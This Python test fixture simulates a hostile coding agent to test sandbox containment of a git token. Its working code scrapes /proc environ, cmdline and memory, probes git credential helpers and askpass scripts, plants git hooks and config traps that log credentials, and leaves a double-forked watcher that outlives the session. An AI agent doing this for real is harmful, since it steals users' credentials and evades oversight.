"""A hostile coding agent (test material, run as the agent command by test_hostile_agent.py).

It hunts for the git token with the rights an agent has, writes what it found to
`$HOSTILE_OUT/report.json`, plants traps for the runner's later git commands, and leaves a
watcher behind (double fork, new session, empty environment) that scans every process's
environment and command line while it lives. Nothing here is production code.

    python hostile_agent.py            # the agent
    python hostile_agent.py --watch    # the watcher (started by the agent)
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import time
from pathlib import Path

OUT = Path(os.environ.get("HOSTILE_OUT", "/nonexistent"))
# What to look for: the token, given reversed so that this environment itself never matches.
NEEDLE = os.environ.get("HOSTILE_NEEDLE_REVERSED", "")[::-1].encode()


def _try_read(path: Path) -> tuple[str, bytes]:
    try:
        return "read", path.read_bytes()
    except PermissionError:
        return "denied", b""
    except OSError as exc:
        return type(exc).__name__, b""


def _read_mem(pid: int, limit: int = 64 * 1024 * 1024) -> tuple[str, bytes]:
    """Read the writable mappings of a process through /proc/<pid>/mem (heap, stack, anon)."""
    try:
        maps = Path(f"/proc/{pid}/maps").read_text()
    except PermissionError:
        return "denied", b""
    except OSError as exc:
        return type(exc).__name__, b""
    chunks: list[bytes] = []
    status = "no-readable-mapping"
    try:
        with open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
            total = 0
            for line in maps.splitlines():
                span, perms = line.split()[:2]
                if not perms.startswith("rw"):
                    continue
                start, end = (int(x, 16) for x in span.split("-"))
                size = min(end - start, limit - total)
                if size <= 0:
                    break
                try:
                    mem.seek(start)
                    chunks.append(mem.read(size))
                    total += size
                    status = "read"
                except OSError:
                    continue
    except PermissionError:
        return "denied", b""
    except OSError as exc:
        return type(exc).__name__, b""
    return status, b"".join(chunks)


def _below(root: int) -> set[int]:
    """`root` and every process below it (by parent pid)."""
    parents: dict[int, int] = {}
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                stat = (entry / "stat").read_text()
                parents[int(entry.name)] = int(stat[stat.rfind(")") + 2 :].split()[1])
            except (OSError, ValueError, IndexError):
                continue
    found = {root}
    grew = True
    while grew:
        grew = False
        for pid, ppid in parents.items():
            if ppid in found and pid not in found:
                found.add(pid)
                grew = True
    return found


def _hostile(pid: int) -> bool:
    """One of ours (the agent, its watcher): their memory holds the needle itself."""
    _status, env = _try_read(Path(f"/proc/{pid}/environ"))
    return b"HOSTILE_OUT=" in env


def scan_processes(hits: list[str], attempts: dict[str, str], runner: int) -> None:
    """Environment and command line of every process; the memory of the runner and of every
    process below it (git included). Not other processes' memory: the test's own process
    holds the token it handed to the runner, and that is not the agent's to find."""
    me = os.getpid()
    ours = _below(runner)
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == me:
            continue
        pid = int(entry.name)
        for what in ("environ", "cmdline"):
            status, data = _try_read(entry / what)
            attempts[f"{what}:{pid}"] = status
            if NEEDLE and NEEDLE in data:
                hits.append(f"/proc/{pid}/{what}")
        if pid in ours and not _hostile(pid):
            status, data = _read_mem(pid)
            attempts[f"mem:{pid}"] = status
            if NEEDLE and NEEDLE in data:
                hits.append(f"/proc/{pid}/mem")


def scan_files(roots: list[Path], hits: list[str]) -> int:
    seen = 0
    for root in roots:
        if not root.exists():
            continue
        for path in [root] if root.is_file() else root.rglob("*"):
            try:
                if path.is_file() and not path.is_symlink():
                    seen += 1
                    if NEEDLE and NEEDLE in path.read_bytes():
                        hits.append(str(path))
            except OSError:
                continue
    return seen


def agent() -> int:
    OUT.mkdir(parents=True, exist_ok=True)
    hits: list[str] = []
    attempts: dict[str, str] = {}
    report: dict[str, object] = {"pid": os.getpid(), "ppid": os.getppid()}

    # 0. A control: the method works on a process that is open to us (our own child).
    control = subprocess.Popen(["sleep", "30"], env={"HOSTILE_CONTROL": "1"})
    status, data = _try_read(Path(f"/proc/{control.pid}/environ"))
    mem_status, _ = _read_mem(control.pid, limit=1024 * 1024)
    report["control"] = {"environ": status if b"HOSTILE_CONTROL=1" in data else "wrong", "mem": mem_status}
    control.kill()
    control.wait()

    # 1. Every process's environment, command line and memory.
    scan_processes(hits, attempts, os.getppid())
    report["parent"] = {k: attempts.get(f"{k}:{os.getppid()}") for k in ("environ", "mem")}

    # 2. Own environment, and the secret mounts a pod or the sandbox might have.
    if NEEDLE and NEEDLE in "\0".join(f"{k}={v}" for k, v in os.environ.items()).encode():
        hits.append("own environment")
    mounts = [Path("/var/run/secrets"), Path("/run/secrets")]
    mounts += [Path(v) for k, v in os.environ.items() if k.startswith("MAKIMA_SANDBOX_MOUNT_")]
    workdir = Path.cwd().parent  # the runner's work dir: the clone and anything beside it
    report["files_scanned"] = scan_files([*mounts, workdir, Path.home()], hits)

    # 3. The git configuration, and git's own credential machinery.
    config = subprocess.run(["git", "config", "--list", "--show-origin"], capture_output=True, text=True)
    if NEEDLE and NEEDLE in config.stdout.encode():
        hits.append("git config")
    remote = subprocess.run(["git", "remote", "get-url", "origin"], capture_output=True, text=True).stdout.strip()
    report["remote"] = remote
    m = re.match(r"^(https?)://([^/]+)", remote)
    if m:
        fill = subprocess.run(
            ["git", "credential", "fill"],
            input=f"protocol={m[1]}\nhost={m[2]}\n\n",
            capture_output=True,
            text=True,
            env={**os.environ, "GIT_TERMINAL_PROMPT": "0"},
            timeout=30,
        )
        report["credential_fill"] = fill.returncode
        if NEEDLE and NEEDLE in fill.stdout.encode():
            hits.append("git credential fill")
        # Any askpass script lying around, asked as git would ask it (with the right origin).
        for script in [*workdir.rglob("*askpass*"), *Path("/tmp").glob("makima-git-*/*askpass*")]:
            for origin in ("", f"{m[1]}://{m[2]}"):
                res = subprocess.run(
                    [str(script), f"Password for '{m[1]}://x@{m[2]}': "],
                    capture_output=True,
                    env={**os.environ, "MAKIMA_GIT_ORIGIN": origin},
                    timeout=30,
                )
                if NEEDLE and NEEDLE in res.stdout:
                    hits.append(f"askpass {script}")

    # 4. Traps for the runner's push: hooks, a credential helper, fsmonitor, in the clone's
    #    config and in the home directory's. Each writes what it sees to the loot directory.
    loot = OUT / "loot"
    loot.mkdir(exist_ok=True)
    trap = OUT / "trap.sh"
    trap.write_text(f'#!/bin/sh\n{{ env; cat; }} >> "{loot}/trap-$$.txt" 2>/dev/null\nexit 0\n')
    trap.chmod(0o755)
    hooks = Path(".git/hooks")
    hooks.mkdir(exist_ok=True)
    for hook in ("pre-push", "pre-commit", "post-commit", "reference-transaction", "push-to-checkout"):
        (hooks / hook).write_text(trap.read_text())
        (hooks / hook).chmod(0o755)
    for scope in ("--local", "--global"):
        for key, value in (
            ("credential.helper", str(trap)),
            ("core.fsmonitor", str(trap)),
            ("core.hooksPath", str(hooks.absolute())),
            ("core.askPass", str(trap)),
        ):
            subprocess.run(["git", "config", scope, "--add", key, value], capture_output=True)
    report["trapped"] = True

    # 5. A watcher that outlives the agent: double fork, new session, empty environment.
    watcher = subprocess.Popen(
        [sys.executable, __file__, "--watch"],
        env={
            "HOSTILE_OUT": str(OUT),
            "HOSTILE_NEEDLE_REVERSED": NEEDLE.decode()[::-1],
            "HOSTILE_RUNNER": str(os.getppid()),
            "PATH": os.environ.get("PATH", ""),
        },
        start_new_session=True,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    deadline = time.monotonic() + 30
    while not (OUT / "watcher.pid").exists() and time.monotonic() < deadline:
        time.sleep(0.05)
    report["watcher"] = watcher.pid

    report["hits"] = hits
    report["attempts"] = attempts
    (OUT / "report.json").write_text(json.dumps(report, indent=1))
    Path("hostile.txt").write_text("the hostile agent was here\n")
    print(f"hostile agent: {len(hits)} hit(s)", flush=True)
    return 0


def watch() -> int:
    if os.fork() > 0:  # the grandchild lives on, re-parented away from the agent
        os._exit(0)
    os.setsid()
    (OUT / "watcher.pid").write_text(str(os.getpid()))
    hits: list[str] = []
    end = time.monotonic() + 120
    while time.monotonic() < end:
        found: list[str] = []
        scan_processes(found, {}, int(os.environ["HOSTILE_RUNNER"]))
        new = [h for h in found if h not in hits]
        if new:
            hits += new
            (OUT / "watcher-hits.json").write_text(json.dumps(hits))
        time.sleep(0.02)
    return 0


if __name__ == "__main__":
    sys.exit(watch() if "--watch" in sys.argv else agent())
